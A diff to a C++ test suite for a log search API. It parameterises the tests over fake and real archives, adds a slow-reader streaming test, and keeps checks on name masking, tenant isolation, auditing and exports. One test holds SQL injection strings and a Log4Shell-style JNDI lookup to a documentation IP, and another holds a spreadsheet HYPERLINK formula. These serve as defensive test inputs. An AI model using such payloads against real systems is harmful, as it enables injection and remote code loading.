@@ -4,6 +4,7 @@
 
 #include <algorithm>
 #include <filesystem>
+#include <set>
 
 #include "api/api.h"
 #include "api/list.h"
@@ -16,9 +17,9 @@
 namespace vg::api::test {
 namespace {
 
-class Search : public ::testing::Test {
+class Search : public ::testing::TestWithParam<ArchiveKind> {
 protected:
-    Search() {
+    Search() : world(GetParam()) {
         const auto add = [&](const char* organisation, std::initializer_list<json::Member> members) { ids.push_back(world.add_record(organisation, json::object(members).dump()).text()); };
         add("A", {{"message", "first thuydang logged on"}, {"user", json::object({{"name", "thuydang"}})}, {"host", json::object({{"name", "web-01"}})}, {"source", json::object({{"ip", "192.0.2.10"}})}});
         world.clock.move(seconds(10));
@@ -67,7 +68,7 @@ using access::Role;
 
 // ---- answers ----
 
-TEST_F(Search, FindsNewestFirstAndOldestFirst) {
+TEST_P(Search, FindsNewestFirstAndOldestFirst) {
     EXPECT_EQ(found("message:*"), (std::vector{ids[2], ids[1], ids[0]}));
     const Reply oldest = get("/api/v1/events", {{"q", "message:*"}, {"order", "oldest"}});
     EXPECT_EQ(oldest.parsed().find("items")->as_array().front().text("id"), ids[0]);
@@ -75,7 +76,7 @@ TEST_F(Search, FindsNewestFirstAndOldestFirst) {
     EXPECT_EQ(count("host.name:web-01", Role::administrator, "node"), 3);
 }
 
-TEST_F(Search, PagesHoldTogether) {
+TEST_P(Search, PagesHoldTogether) {
     std::vector<std::string> seen;
     std::optional<std::string> after;
     do {
@@ -89,7 +90,7 @@ TEST_F(Search, PagesHoldTogether) {
     EXPECT_EQ(seen, (std::vector{ids[2], ids[1], ids[0]}));
 }
 
-TEST_F(Search, CountsByTimeWithEmptyBuckets) {
+TEST_P(Search, CountsByTimeWithEmptyBuckets) {
     const Reply reply = get("/api/v1/events/histogram", {{"q", "message:*"}, {"step", "10"}});
     std::vector<std::int64_t> counts;
     const json::Value answer = reply.parsed();
@@ -101,7 +102,7 @@ TEST_F(Search, CountsByTimeWithEmptyBuckets) {
     EXPECT_EQ(world.send({.path = "/api/v1/events/histogram", .query = {{"from", "1990-01-01T00:00:00Z"}, {"to", to}, {"step", "1"}}}, &world.account("A", Role::analyst).credential).status, 400) << "too many buckets";
 }
 
-TEST_F(Search, TellsTheMostFrequentValues) {
+TEST_P(Search, TellsTheMostFrequentValues) {
     const json::Value top = get("/api/v1/events/top", {{"q", "message:*"}, {"field", "host.name"}}).parsed();
     EXPECT_EQ(top.integer("events"), 3);
     EXPECT_EQ(top.integer("with_field"), 3);
@@ -113,7 +114,7 @@ TEST_F(Search, TellsTheMostFrequentValues) {
     EXPECT_EQ(statistics.text("most"), "192.0.2.20");
 }
 
-TEST_F(Search, NamesTheFieldsThatOccur) {
+TEST_P(Search, NamesTheFieldsThatOccur) {
     const json::Value fields = get("/api/v1/events/fields", {{"q", "message:*"}}).parsed();
     bool user = false;
     for (const json::Value& item : fields.find("items")->as_array()) {
@@ -126,7 +127,7 @@ TEST_F(Search, NamesTheFieldsThatOccur) {
     EXPECT_TRUE(user) << fields.dump();
 }
 
-TEST_F(Search, ShowsWhatHappenedAroundAnEventOnItsHost) {
+TEST_P(Search, ShowsWhatHappenedAroundAnEventOnItsHost) {
     const json::Value around = get("/api/v1/events/" + ids[1] + "/context", {}).parsed();  // from and to are no parameters of it
     EXPECT_EQ(around.text("code"), "bad_input");
     const Reply reply = world.send({.path = "/api/v1/events/" + ids[1] + "/context"}, &world.account("A", Role::analyst).credential);
@@ -137,7 +138,7 @@ TEST_F(Search, ShowsWhatHappenedAroundAnEventOnItsHost) {
     EXPECT_TRUE(reply.parsed().find("after")->as_array().empty()) << "db-01 is another host, and B's web-01 another organisation's: " << reply.body;
 }
 
-TEST_F(Search, StreamsEverythingAsLines) {
+TEST_P(Search, StreamsEverythingAsLines) {
     const Reply reply = get("/api/v1/events", {{"q", "message:*"}}, Role::analyst, "A", {{"accept", "application/x-ndjson"}});
     EXPECT_EQ(reply.header("Content-Type"), "application/x-ndjson");
     const auto lines = split(reply.body, '\n');
@@ -147,19 +148,40 @@ TEST_F(Search, StreamsEverythingAsLines) {
 }
 
 // A stream longer than a piece, with events of one instant: nothing twice, nothing left out.
-TEST_F(Search, ALongStreamIsWhole) {
-    for (int i = 0; i < 1300; ++i)
-        world.archive->add({.position = {100'000U + static_cast<std::uint64_t>(i)}, .occurred = world.started + seconds(i / 700), .received = world.started, .organisation = world.organisation("A"),
-                            .format = "json", .fields = json::object({{"number", format("n{}", i)}})});
+TEST_P(Search, ALongStreamIsWhole) {
+    for (int i = 0; i < 1300; ++i) world.add_found("A", {100'000U + static_cast<std::uint64_t>(i)}, world.started + seconds(i / 700), {{"number", format("n{}", i)}});
     const Reply reply = get("/api/v1/events", {{"q", "number:*"}, {"order", "oldest"}}, Role::reader, "A", {{"accept", "application/x-ndjson"}});
     const auto lines = split(reply.body, '\n');
     ASSERT_EQ(lines.size(), 1301U);
     for (int i = 0; i < 1300; ++i) ASSERT_EQ(json::parse(lines[static_cast<std::size_t>(i)])->find("fields")->text("number"), format("n{}", i));
 }
 
+// Two readers who take nothing do not keep both turns; when they go on they get everything, each event once.
+TEST_P(Search, SlowReadersKeepNobodyWaiting) {
+    constexpr int kEvents = 3000;
+    for (int i = 0; i < kEvents; ++i) world.add_found("A", {100'000U + static_cast<std::uint64_t>(i)}, world.started + seconds(i / 10), {{"number", format("n{}", i)}});
+    const Credential& credential = world.account("A", Role::analyst).credential;
+    const Send send{.path = "/api/v1/events", .query = {{"q", "number:*"}, {"from", from}, {"to", to}}, .headers = {{"accept", "application/x-ndjson"}}};
+    std::vector<net::Response> slow;
+    slow.push_back(world.answer(send, &credential));
+    slow.push_back(world.answer(send, &credential));
+    EXPECT_EQ(count("number:*", Role::duty_lead), kEvents) << "a third gets a turn";
+    for (net::Response& response : slow) {
+        ASSERT_TRUE(response.stream);
+        std::string body;
+        for (bool more = true; more;) more = response.stream(body);
+        EXPECT_EQ(body.find("problem"), std::string::npos);
+        std::set<std::string> seen;
+        for (std::string_view line : split(body, '\n'))
+            if (!line.empty()) seen.insert(json::parse(line)->text("id").value_or(""));
+        EXPECT_EQ(seen.size(), static_cast<std::size_t>(kEvents));
+        EXPECT_EQ(std::count(body.begin(), body.end(), '\n'), kEvents);
+    }
+}
+
 // ---- what is wrong with a request ----
 
-TEST_F(Search, AnErrorOfTheQueryPointsAtThePlace) {
+TEST_P(Search, AnErrorOfTheQueryPointsAtThePlace) {
     const Reply reply = get("/api/v1/events", {{"q", "host.name:(web-01"}});
     EXPECT_EQ(reply.status, 400);
     EXPECT_EQ(reply.header("Content-Type"), "application/problem+json");
@@ -172,14 +194,14 @@ TEST_F(Search, AnErrorOfTheQueryPointsAtThePlace) {
     EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "x"}, {"q", "((("}})).status, 400);
 }
 
-TEST_F(Search, TimesMustBeGivenAndInOrder) {
+TEST_P(Search, TimesMustBeGivenAndInOrder) {
     const Credential& credential = world.account("A", Role::analyst).credential;
     EXPECT_EQ(world.send({.path = "/api/v1/events"}, &credential).parsed().text("field"), "from");
     EXPECT_EQ(world.send({.path = "/api/v1/events", .query = {{"from", from}}}, &credential).parsed().text("field"), "to");
     EXPECT_EQ(world.send({.path = "/api/v1/events", .query = {{"from", to}, {"to", from}}}, &credential).parsed().text("field"), "from");
 }
 
-TEST_F(Search, HostileCursorsAreRefused) {
+TEST_P(Search, HostileCursorsAreRefused) {
     const json::Value page = get("/api/v1/events", {{"q", "message:*"}, {"limit", "1"}}).parsed();
     const std::string good = page.text("next").value_or("");
     ASSERT_FALSE(good.empty());
@@ -206,7 +228,7 @@ TEST_F(Search, HostileCursorsAreRefused) {
     EXPECT_EQ(get("/api/v1/events", {{"q", "secret"}, {"after", theirs}}).parsed().find("items")->as_array().size(), 0U);
 }
 
-TEST_F(Search, InjectionFindsNothingAndBreaksNothing) {
+TEST_P(Search, InjectionFindsNothingAndBreaksNothing) {
     const std::int64_t all = count("message:*");
     for (const char* text : {R"("'; drop table tail; --")", R"("x' or '1'='1")", R"("%")", R"("_")", R"("\\")", R"("${jndi:ldap://192.0.2.1/a}")", "message:\"' union select * from tail\"", R"(format:"json' or 1=1 --")",
                              R"(organisation:"x' or true --")"}) {
@@ -224,7 +246,7 @@ TEST_F(Search, InjectionFindsNothingAndBreaksNothing) {
 }
 
 // A query cannot widen whose events are searched.
-TEST_F(Search, TheQueryDoesNotDecideWhoseEventsAreSeen) {
+TEST_P(Search, TheQueryDoesNotDecideWhoseEventsAreSeen) {
     const std::string b = world.organisation("B").text();
     for (const std::string& q : {std::string{"secret"}, "organisation:" + b, "organisation:" + b + " OR message:*", std::string{"NOT organisation:x"}, std::string{"secret OR NOT secret"}}) {
         const Reply reply = get("/api/v1/events", {{"q", q}});
@@ -236,7 +258,7 @@ TEST_F(Search, TheQueryDoesNotDecideWhoseEventsAreSeen) {
 
 // ---- persons ----
 
-TEST_F(Search, WhoMayRevealSeesPersonsAndTheAuditChainSaysSo) {
+TEST_P(Search, WhoMayRevealSeesPersonsAndTheAuditChainSaysSo) {
     const Reply reply = get("/api/v1/events", {{"q", "thuydang"}});
     EXPECT_NE(reply.body.find("thuydang"), std::string::npos);
     EXPECT_EQ(reply.parsed().find("items")->as_array()[0].boolean("masked"), false);
@@ -253,14 +275,14 @@ TEST_F(Search, WhoMayRevealSeesPersonsAndTheAuditChainSaysSo) {
     EXPECT_EQ(audit_of("personal:reveal").size(), 2U);
 }
 
-TEST_F(Search, TheAuditLineOfAnotherOrganisationDoesNotHoldTheQuery) {
+TEST_P(Search, TheAuditLineOfAnotherOrganisationDoesNotHoldTheQuery) {
     EXPECT_EQ(get("/api/v1/events", {{"q", "logged OR qxbravo"}}, Role::administrator, "root").status, 200);
     for (const store::AuditLine& line : audit_of("personal:reveal"))
         EXPECT_EQ(line.details.text("q").has_value(), line.organisation == world.organisation("root")) << line.details.dump();
     EXPECT_EQ(audit_of("personal:reveal").size(), 2U) << "one for who asked, one for whose persons were shown";
 }
 
-TEST_F(Search, WithoutThatPersonsAreMaskedEverywhere) {
+TEST_P(Search, WithoutThatPersonsAreMaskedEverywhere) {
     const auto clean = [](const Reply& reply, std::string_view what) {
         EXPECT_EQ(reply.status, 200) << what << reply.body;
         EXPECT_EQ(reply.body.find("thuydang"), std::string::npos) << what << reply.body;
@@ -284,14 +306,14 @@ TEST_F(Search, WithoutThatPersonsAreMaskedEverywhere) {
     EXPECT_TRUE(audit_of("personal:reveal").empty());
 }
 
-TEST_F(Search, TopValuesOfAMaskedFieldSayHowManyAndNotWho) {
+TEST_P(Search, TopValuesOfAMaskedFieldSayHowManyAndNotWho) {
     const json::Value top = get("/api/v1/events/top", {{"q", "message:*"}, {"field", "user.name"}}, Role::reader).parsed();
     EXPECT_EQ(top.find("values")->dump(), R"([{"value":"[masked]","count":2},{"value":"root","count":1}])");
     EXPECT_EQ(top.integer("distinct"), 2) << "of the values as they are shown";
 }
 
 // What is masked cannot be searched: every way of asking for a person gives the same whether it is that person or not.
-TEST_F(Search, WithoutThatNobodyCanBeFoundByName) {
+TEST_P(Search, WithoutThatNobodyCanBeFoundByName) {
     for (const char* q : {"user.name:thuydang", "user.name:thuy*", "user.name:t?uydang", "user.name:[a TO z]", "user.name:>=t", "user.name:(thuydang OR x)", "NOT user.name:thuydang", "user.email:a@example.org", "SubjectUserName:x"}) {
         const Reply reply = get("/api/v1/events/count", {{"q", q}}, Role::reader);
         EXPECT_EQ(reply.status, 403) << q << reply.body;
@@ -303,7 +325,7 @@ TEST_F(Search, WithoutThatNobodyCanBeFoundByName) {
     EXPECT_EQ(count("logged AND NOT user.name:SYSTEM", Role::reader), 2) << "nor is SYSTEM";
 }
 
-TEST_F(Search, WithoutThatTextDoesNotTellTheNameInIt) {
+TEST_P(Search, WithoutThatTextDoesNotTellTheNameInIt) {
     for (const char* pair : {"thuydang|nobodys", "thuy*|thux*", "message:*uydang*|message:*uydanz*", "\"first thuydang\"|\"first nobodys\"", "message:\"first thuydang logged on\"|message:\"first x logged on\"", "m*sked|m*skee",
                              "lan.tran|lan.trax", "message:first?thuydang*|message:first?nobodys*", "message:>=\"second m\"|message:>=\"second k\""}) {
         const auto both = split(pair, '|');
@@ -319,9 +341,8 @@ TEST_F(Search, WithoutThatTextDoesNotTellTheNameInIt) {
     EXPECT_EQ(count("message:\"logged on\"", Role::reader), 0) << "the whole message is another";
 }
 
-TEST_F(Search, WhatWasNotUnderstoodIsHiddenAsAWholeFromSearchToo) {
-    world.archive->add({.position = {500'000}, .occurred = world.started, .received = world.started, .organisation = world.organisation("A"), .format = "", .unparsed = "no format fits",
-                        .fields = json::object({{"message", "user=thuydang pass"}})});
+TEST_P(Search, WhatWasNotUnderstoodIsHiddenAsAWholeFromSearchToo) {
+    world.add_found("A", {500'000}, world.started, {{"message", "user=thuydang pass"}}, "no format fits");
     EXPECT_EQ(count("pass"), 1);
     EXPECT_EQ(count("pass", Role::reader), 0);
     EXPECT_EQ(get("/api/v1/events", {{"q", "unparsed:*"}}, Role::reader).body.find("thuydang"), std::string::npos);
@@ -329,7 +350,7 @@ TEST_F(Search, WhatWasNotUnderstoodIsHiddenAsAWholeFromSearchToo) {
 
 // ---- words ----
 
-TEST_F(Search, CompletesNamesAndValues) {
+TEST_P(Search, CompletesNamesAndValues) {
     const auto offers = [&](const std::string& q, Role role = Role::analyst) {
         const Reply reply = get("/api/v1/search/completion", {{"q", q}}, role);
         EXPECT_EQ(reply.status, 200) << reply.body;
@@ -350,7 +371,7 @@ TEST_F(Search, CompletesNamesAndValues) {
     EXPECT_EQ(place.integer("end"), 18);
 }
 
-TEST_F(Search, SaysHowAQueryIsReadOrWhatIsWrong) {
+TEST_P(Search, SaysHowAQueryIsReadOrWhatIsWrong) {
     const Credential& credential = world.account("A", Role::reader).credential;
     const json::Value good = world.send({.path = "/api/v1/search/check", .query = {{"q", "host.name:web-01 AND NOT logged"}}}, &credential).parsed();
     EXPECT_EQ(good.boolean("valid"), true);
@@ -365,7 +386,7 @@ TEST_F(Search, SaysHowAQueryIsReadOrWhatIsWrong) {
 
 // ---- searches under way ----
 
-TEST_F(Search, SearchesOfAnAccountAreSeenAndCancelledByItAlone) {
+TEST_P(Search, SearchesOfAnAccountAreSeenAndCancelledByItAlone) {
     const Account& mine = world.account("A", Role::analyst);
     const Account& colleague = world.account("A", Role::administrator);
     const std::string id = world.open_search(mine);
@@ -380,7 +401,7 @@ TEST_F(Search, SearchesOfAnAccountAreSeenAndCancelledByItAlone) {
 
 // ---- exports ----
 
-TEST_F(Search, AnExportIsALineInTheAuditChain) {
+TEST_P(Search, AnExportIsALineInTheAuditChain) {
     const Reply reply = post("/api/v1/events/export", json::object({{"q", "message:*"}, {"from", from}, {"to", to}, {"format", "ndjson"}}));
     EXPECT_EQ(reply.status, 200);
     EXPECT_EQ(reply.header("Content-Disposition"), "attachment; filename=\"events.ndjson\"");
@@ -392,17 +413,19 @@ TEST_F(Search, AnExportIsALineInTheAuditChain) {
     EXPECT_EQ(post("/api/v1/events/export", json::object({{"from", from}, {"to", to}, {"format", "ndjson"}}), Role::reader).status, 403);
 }
 
-TEST_F(Search, AParquetExportIsWhatTheArchiveWroteAndLeavesNothingBehind) {
+TEST_P(Search, AParquetExportIsWhatTheArchiveWroteAndLeavesNothingBehind) {
     const Reply reply = post("/api/v1/events/export", json::object({{"q", "host.name:db-01"}, {"from", from}, {"to", to}, {"format", "parquet"}}));
     EXPECT_EQ(reply.status, 200) << reply.body;
     EXPECT_TRUE(reply.body.starts_with("PAR1"));
-    EXPECT_NE(reply.body.find("third"), std::string::npos);
-    EXPECT_EQ(reply.body.find("second"), std::string::npos);
+    if (GetParam() == ArchiveKind::fake) {
+        EXPECT_NE(reply.body.find("third"), std::string::npos);
+        EXPECT_EQ(reply.body.find("second"), std::string::npos);
+    }
     EXPECT_TRUE(std::filesystem::is_empty(world.exports));
 }
 
 // RFC 4180, and a value that a spreadsheet would run is defused.
-TEST_F(Search, CsvIsQuotedAndHoldsNoFormula) {
+TEST_P(Search, CsvIsQuotedAndHoldsNoFormula) {
     world.add_record("A", json::object({{"message", "=HYPERLINK(\"http://192.0.2.1/\",\"x\")"}, {"event", json::object({{"code", "-5"}})}, {"note", "a,b"}}).dump());
     const Reply reply = post("/api/v1/events/export", json::object({{"q", "message:*hyperlink*"}, {"from", from}, {"to", to}, {"format", "csv"}}));
     const auto lines = split(reply.body, '\n');
@@ -415,7 +438,7 @@ TEST_F(Search, CsvIsQuotedAndHoldsNoFormula) {
 
 // ---- saved searches ----
 
-TEST_F(Search, SavedSearchesArePrivateUntilShared) {
+TEST_P(Search, SavedSearchesArePrivateUntilShared) {
     EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "mine"}, {"q", "logged"}, {"range", "24h"}})).status, 201);
     EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "ours"}, {"q", "logged"}, {"shared", true}})).status, 201);
     EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "of a person"}, {"q", "user.name:thuydang"}, {"shared", true}})).status, 201);
@@ -428,6 +451,8 @@ TEST_F(Search, SavedSearchesArePrivateUntilShared) {
     EXPECT_EQ(reader.find("thuydang"), std::string::npos) << "who may not see persons does not see them in a query either";
     EXPECT_EQ(names(world.account("B", Role::analyst)).find("ours"), std::string::npos);
 }
+
+INSTANTIATE_TEST_SUITE_P(Over, Search, ::testing::Values(ArchiveKind::fake, ArchiveKind::real), [](const auto& one) { return one.param == ArchiveKind::fake ? "Fake" : "Real"; });
 
 }  // namespace
 }  // namespace vg::api::test
